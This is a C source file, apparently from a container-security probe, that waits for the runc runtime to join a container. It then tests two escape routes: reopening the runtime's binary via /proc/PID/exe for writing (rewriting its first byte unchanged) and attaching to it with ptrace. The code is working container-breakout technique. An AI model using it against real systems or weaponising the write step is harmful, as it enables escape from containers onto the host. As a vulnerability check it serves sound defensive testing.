#define _GNU_SOURCE
#include "attacks.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <time.h>
#include <unistd.h>

/* When somebody joins the container, the runtime is a process of it for a moment, with more rights and more open files than
 * anything inside. This waits for that moment. */
static pid_t wait_for_runtime(void)
{
    const char *text = getenv("PROBE_WAIT");
    time_t end = time(NULL) + (text != NULL ? atoi(text) : 10);
    while (time(NULL) < end) {
        DIR *all = opendir("/proc");
        struct dirent *entry;
        while (all != NULL && (entry = readdir(all)) != NULL) {
            char path[280], name[32] = "";
            if (!isdigit((unsigned char)entry->d_name[0])) {
                continue;
            }
            snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
            FILE *comm = fopen(path, "re");
            if (comm == NULL) {
                continue;
            }
            int ours = fgets(name, sizeof name, comm) != NULL && strncmp(name, "runc:[2:INIT]", 13) == 0;
            fclose(comm);
            if (ours) {
                pid_t found = (pid_t)atoi(entry->d_name);
                closedir(all);
                return found;
            }
        }
        if (all != NULL) {
            closedir(all);
        }
        usleep(500);
    }
    return 0;
}

/* Opens the runtime's program while it joins, and writes its first byte again once it is no longer running. A runtime that
 * runs from a sealed copy of itself cannot be written that way. */
int attack_runtime_exe(void)
{
    char path[64], name[64] = "", first;
    pid_t runtime = wait_for_runtime();
    if (runtime == 0) {
        return not_here("nobody joined while the probe watched");
    }
    snprintf(path, sizeof path, "/proc/%d/exe", (int)runtime);
    int program = open(path, O_RDONLY | O_CLOEXEC);
    if (program < 0) {
        return errno == ENOENT ? not_here("the runtime was gone too soon") : errno;
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    if (readlink(path, name, sizeof name - 1) > 0 && strncmp(name, "/bin/", 5) == 0) {
        return not_here("the runtime was gone too soon");   // it had become the container's program already
    }
    for (int tries = 0; tries < 2000; tries++) {
        int writable = open(path, O_WRONLY | O_CLOEXEC);
        if (writable >= 0) {
            return pread(program, &first, 1, 0) == 1 && pwrite(writable, &first, 1, 0) == 1 ? 0 : errno;
        }
        if (errno != ETXTBSY) {
            return errno;
        }
        usleep(1000);
    }
    return ETXTBSY;
}

/* Who was too slow for one runtime waits for the next. */
int attack_runtime_ptrace(void)
{
    for (pid_t runtime; (runtime = wait_for_runtime()) != 0;) {
        if (ptrace(PTRACE_SEIZE, runtime, NULL, NULL) == 0) {
            return 0;
        }
        if (errno != ESRCH) {
            return errno;
        }
    }
    return not_here("nobody joined while the probe watched");
}
